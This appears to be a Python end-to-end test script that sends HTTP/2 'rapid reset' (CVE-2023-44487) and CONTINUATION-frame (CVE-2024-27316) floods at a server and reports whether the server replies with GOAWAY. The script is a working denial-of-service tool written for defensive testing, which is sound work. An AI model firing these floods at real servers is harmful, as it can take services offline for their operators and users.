#!/usr/bin/python3
"""HTTP/2 flood patterns for the waypoint's e2e tests (RFC 9113 abuse a server must bound).

h2_abuse.py HOST PORT rapid_reset COUNT: COUNT requests each reset by the client right after its
  HEADERS (CVE-2023-44487).
h2_abuse.py HOST PORT continuation COUNT: one HEADERS without END_HEADERS followed by COUNT
  CONTINUATION frames (CVE-2024-27316 and friends).
Prints "goaway CODE" for the GOAWAY the server sent (11 is ENHANCE_YOUR_CALM), or "no goaway".
"""
import socket
import struct
import sys

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0x1, 0x3, 0x4, 0x7, 0x9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def request_block(encoder, extra=0):
    headers = [(":method", "GET"), (":scheme", "http"), (":path", "/"),
               (":authority", "cart")]
    headers += [(f"x-filler-{i}", "v" * 16) for i in range(extra)]
    return encoder.encode(headers)


def wait_goaway(sock):
    data = b""
    sock.settimeout(15)
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
            while len(data) >= 9:
                length = int.from_bytes(data[:3], "big")
                if len(data) < 9 + length:
                    break
                kind, payload = data[3], data[9:9 + length]
                data = data[9 + length:]
                if kind == GOAWAY:
                    return "goaway %d" % struct.unpack(">I", payload[4:8])[0]
    except OSError:
        pass
    return "no goaway"


def main():
    host, port, mode, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    sock = socket.create_connection((host, port), timeout=15)
    encoder = hpack.Encoder()
    out = PREFACE + frame(SETTINGS, 0, 0)
    if mode == "rapid_reset":
        for i in range(count):
            stream = 1 + 2 * i
            out += frame(HEADERS, END_STREAM | END_HEADERS, stream, request_block(encoder))
            out += frame(RST_STREAM, 0, stream, struct.pack(">I", 0x8))  # CANCEL
    else:
        block = request_block(encoder, extra=count * 2)
        size = max(1, len(block) // (count + 1))
        pieces = [block[i:i + size] for i in range(0, len(block), size)]
        out += frame(HEADERS, END_STREAM, 1, pieces[0])
        for piece in pieces[1:]:
            out += frame(CONTINUATION, 0, 1, piece)
    try:
        sock.sendall(out)
    except OSError:
        pass
    print(wait_goaway(sock), flush=True)


if __name__ == "__main__":
    main()
